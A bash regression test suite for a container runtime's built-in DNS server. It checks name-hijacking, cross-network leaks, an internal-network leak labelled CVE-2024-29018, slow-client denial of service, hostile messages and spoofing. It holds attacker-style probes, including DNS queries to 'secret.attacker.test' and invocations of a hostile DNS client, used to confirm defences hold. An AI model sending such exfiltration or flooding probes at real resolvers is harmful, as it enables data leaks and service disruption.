#!/bin/bash
# The name server of a network: who wants to be taken for another, to hear what is not for it, or to keep it from answering.
# others: rows=user
# shellcheck source=../lib.sh
. "$(dirname "$0")/../lib.sh"
# shellcheck source=../net/fakehost.bash
. "$(dirname "$0")/../net/fakehost.bash"

# of NAME [FAMILY]: the address that the container sees on eth0.
of() { hoy exec "$1" ip "-${2:-4}" -o addr show eth0 scope global | awk '{ sub("/.*", "", $4); print $4 }'; }
gateway_of() { hoy exec "$1" ip -4 route | sed -n 's/^default via \([^ ]*\) .*/\1/p'; }
network() { hoy network create "$@" >/dev/null || fail "network create $*"; }
sleeper() {
	local name=$1
	shift
	hoy run -d --name "$name" "$@" busybox sleep 1000 >/dev/null || fail "run $name"
}

# Names by which containers call themselves go after those that they were given.
test_nobody_takes_a_name() {
	on_fake_host nobody_takes_a_name
}
nobody_takes_a_name() {
	load busybox
	nameserver 127.0.0.53
	network one
	sleeper evil --network one --hostname db
	client c --network one
	ask c db
	got NOERROR "db. A $(of evil)"
	sleeper db --network one
	ask c db
	got NOERROR "db. A $(of db)"
	assert_eq "$(of db)" "$(hoy exec c dig +short -x "$(of db)" | sed "s/^db\.$/$(of db)/")" PTR
}

# A container called as a public name is, is that in its own network and nowhere else.
test_names_of_other_networks() { # short rows=user,root,one
	on_fake_host names_of_other_networks
}
names_of_other_networks() {
	load busybox
	nameserver 127.0.0.53
	network one
	network two
	sleeper registry.example.com --network two --network-alias example.org
	client c --network one
	client d --network two
	client e --network bridge
	for n in registry.example.com example.org; do
		ask d $n
		got NOERROR "$n. A $(of registry.example.com)"
		ask c $n
		got NOERROR "$n. A 127.0.0.53"
		ask e $n
		got NOERROR "$n. A 127.0.0.53"
	done
	ask c registry.example.com.two
	got NOERROR 'registry.example.com.two. A 127.0.0.53' # for who is not in it, two is a domain as any
	ask c -x "$(of registry.example.com)"
	got NOERROR
	# The default network knows no names, but asks.
	sleeper plain --network bridge
	ask e plain
	got NOERROR 'plain. A 127.0.0.53'
	ask e -x "$(of plain)"
	got NXDOMAIN
	network --disable-dns mute
	sleeper alpha --network mute
	client b --network mute
	ask b alpha
	got NOERROR 'alpha. A 127.0.0.53'
}

# CVE-2024-29018: nothing of an internal network leaves it through the name server.
test_internal_asks_nobody() { # short
	on_fake_host internal_asks_nobody
}
internal_asks_nobody() {
	load busybox
	nameserver 127.0.0.53
	nameserver 198.51.100.1
	network --internal inner
	sleeper db --network inner
	client c --network inner
	client d --network inner --dns 198.51.100.1
	for who in c d; do
		ask $who db
		got NOERROR "db. A $(of db)"
		for n in secret.attacker.test com .; do
			ask $who $n
			case $out in NXDOMAIN* | REFUSED*) ;; *) fail "$n: $out" ;; esac
		done
		ask $who +tcp secret.attacker.test TXT
		assert_has NXDOMAIN
		assert_has 'EDE 15'
	done
	assert_eq ready "$(cat "$T/127.0.0.53")" 'what the server of the machine has seen'
	assert_eq ready "$(cat "$T/198.51.100.1")" 'what the server of --dns has seen'
}

# One that holds its connections and says nothing must not keep others from being answered.
test_slow_clients() { # short
	on_fake_host slow_clients
}
slow_clients() {
	load busybox
	nameserver 127.0.0.53
	network one
	sleeper db --network one
	client evil --network one
	client c --network one
	local gw
	gw=$(gateway_of c)
	hoy exec evil python3 -B /tools/dnsclient.py hold "$gw" 200 >"$T/hold" 2>&1 &
	wait_for file_has "$T/hold" 'held 200'
	for o in +notcp +tcp; do
		ask c $o db
		got NOERROR "db. A $(of db)"
		ask c $o example.org
		got NOERROR 'example.org. A 127.0.0.53'
		ask evil $o db
		got NOERROR "db. A $(of db)"
	done
	wait_for -t 30 file_has "$T/hold" closed # after five seconds without a question
	run hoy exec c python3 -B /tools/dnsclient.py slowly "$gw" db
	assert_out closed
	hoy exec evil python3 -B /tools/dnsclient.py unread "$gw" 4000 big500.example.org >"$T/unread" 2>&1 &
	local unread=$!
	wait_for -t 20 file_has "$T/unread" sent
	ask c +tcp db
	got NOERROR "db. A $(of db)"
	ask evil example.org
	assert_has NOERROR
	wait $unread
}

test_hostile_messages() { # short
	on_fake_host hostile_messages
}
hostile_messages() {
	load busybox
	nameserver 127.0.0.53
	network one
	sleeper db --network one
	client c --network one
	local gw before
	gw=$(gateway_of c)
	before=$(of_host hoy-network)
	run hoy exec c python3 -B /tools/dnsclient.py hostile "$gw" 400
	assert_ok
	ask c db
	got NOERROR "db. A $(of db)"
	assert_eq "$before" "$(of_host hoy-network)" 'the network process'
	for n in loop short junk; do
		ask c $n.example.org # such an answer is none
		assert_match '^SERVFAIL'
	done
	run hoy exec c dig +tcp example.org AXFR
	assert_has 'Transfer failed'
	ask c version.bind CH TXT
	got REFUSED
	assert_eq 0 "$(was_asked 127.0.0.53 'version\|AXFR')" 'questions outside'
}

# Forged answers: neither the id nor the port nor the question can be guessed.
test_forged_answers() { # short
	on_fake_host forged_answers
}
forged_answers() {
	nameserver 127.0.0.53
	client c --network bridge
	local i
	for i in 1 2 3 4 5; do
		ask c spoof.example$i.org
		got NOERROR "spoof.example$i.org. A 127.0.0.53"
	done
}

# --dns of a container is asked from the machine's side: its loopback device is not there to be asked, however it is written.
test_servers_on_the_loopback_device() {
	on_fake_host servers_on_the_loopback_device
}
servers_on_the_loopback_device() {
	nameserver 127.0.0.53
	nameserver 127.0.0.1
	network one
	client c --network one --dns ::ffff:127.0.0.1
	client d --network one --dns 127.0.0.1
	for who in c d; do
		ask $who "@$(gateway_of $who)" example.org
		got NOERROR 'example.org. A 127.0.0.53'
	done
	assert_eq ready "$(cat "$T/127.0.0.1")" 'what the server on the loopback device has seen'
}

fakehost_tests "$@"
